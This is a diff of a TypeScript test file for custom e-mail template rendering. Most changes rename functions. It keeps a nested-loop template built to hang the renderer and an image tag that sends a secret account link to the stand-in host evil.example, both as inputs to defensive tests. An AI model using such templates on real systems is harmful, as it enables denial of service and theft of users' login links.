@@ -4,12 +4,12 @@ import { aPerson } from '../../../../../tests/kit/builders.ts'
 import { createTestDatabase } from '../../../../../tests/kit/database.ts'
 import { TEST_SECRETS, TEST_SITE } from '../../../../../tests/kit/mail.ts'
 import { createLog } from '../../../../platform/log.ts'
-import { announce } from '../../commands/queue-email.ts'
+import { queueEmail } from '../../commands/queue-email.ts'
 import { renderMessage } from '../../reads/render-message.ts'
 import { emailTemplates, outbox } from '../../tables.ts'
-import { sealToken } from '../link-tokens.ts'
-import { tryTemplate } from './custom-templates.ts'
-import type { Filling } from './fill-template.ts'
+import { sealLinkToken } from '../link-tokens.ts'
+import { tryRenderingTemplate } from './custom-templates.ts'
+import type { TemplateRenderRequest } from './fill-template.ts'
 
 const endless = '{% assign r = (1..900000) %}{% for i in r %}{% for j in r %}{% endfor %}{% endfor %}'
 /** One filter that no limit of the engine interrupts. */
@@ -19,7 +19,7 @@ const NOW = new Date('2026-11-20T02:00:00.000Z')
 const database = await createTestDatabase()
 afterAll(() => database.close())
 
-function filling(parts: Partial<Filling['template']>): Filling {
+function filling(parts: Partial<TemplateRenderRequest['template']>): TemplateRenderRequest {
   const template = { subject: 'Hello', html: 'Hello', text: 'Hello', ...parts }
   return { template, variables: {}, secretLinks: {}, mayMiss: true, checksNames: false }
 }
@@ -38,18 +38,18 @@ test.for([
 ] as const)(
   'A custom template with %s is stopped within two seconds without blocking the event loop',
   async ([, parts]) => {
-    await tryTemplate(filling({}))
+    await tryRenderingTemplate(filling({}))
     const startedAt = performance.now()
-    const delay = await longestDelayInMs(() => tryTemplate(filling(parts)))
+    const delay = await longestDelayInMs(() => tryRenderingTemplate(filling(parts)))
     expect(performance.now() - startedAt).toBeLessThan(1900)
     expect(delay).toBeLessThan(250)
   },
 )
 
 test('An endless custom template is refused at its field, and the next one still renders', async () => {
-  const filled = await tryTemplate(filling({ html: endless }))
+  const filled = await tryRenderingTemplate(filling({ html: endless }))
   expect(filled).toMatchObject({ mistakes: [{ part: 'html', words: expect.stringContaining('too long') }] })
-  expect(await tryTemplate(filling({}))).toMatchObject({ message: { html: 'Hello' } })
+  expect(await tryRenderingTemplate(filling({}))).toMatchObject({ message: { html: 'Hello' } })
 })
 
 test('Excess custom template previews get 503, without delaying e-mails being sent', async () => {
@@ -62,14 +62,14 @@ test('Excess custom template previews get 503, without delaying e-mails being se
     htmlTemplate: '<a href="{{ accountLink }}">Open</a>',
     textTemplate: 'Open {{ accountLink }}',
   })
-  const data = { reason: 'verify', token: sealToken(TEST_SECRETS, 'abc'), validUntil: NOW } as const
+  const data = { reason: 'verify', token: sealLinkToken(TEST_SECRETS, 'abc'), validUntil: NOW } as const
   const to = { personId: id, email: 'ana@example.ph', name: null }
-  await db.transaction((tx) => announce(tx, { event: 'account.link', to, data }, NOW))
+  await db.transaction((tx) => queueEmail(tx, { event: 'account.link', to, data }, NOW))
   const [message] = await db.select().from(outbox)
   if (message === undefined) throw new Error('nothing announced')
 
   const tried = Array.from({ length: 12 }, () =>
-    tryTemplate(filling({ html: endless })).catch((error) => error),
+    tryRenderingTemplate(filling({ html: endless })).catch((error) => error),
   )
   const context = { db, log: createLog('silent'), secrets: TEST_SECRETS, site: TEST_SITE }
   const startedAt = performance.now()
@@ -81,7 +81,9 @@ test('Excess custom template previews get 503, without delaying e-mails being se
 
 test('A stored template that leaks a secret link is replaced by the shipped template', async () => {
   const { db } = database
-  await db.update(emailTemplates).set({ htmlTemplate: '<img src="https://evil.example/?{{ accountLink }}">' })
+  await db
+    .update(emailTemplates)
+    .set({ htmlTemplate: '<img src="https://evil.example/?{{ accountLinkTemplate }}">' })
   const [message] = await db.select().from(outbox)
   if (message === undefined) throw new Error('nothing announced')
   const context = { db, log: createLog('silent'), secrets: TEST_SECRETS, site: TEST_SITE }
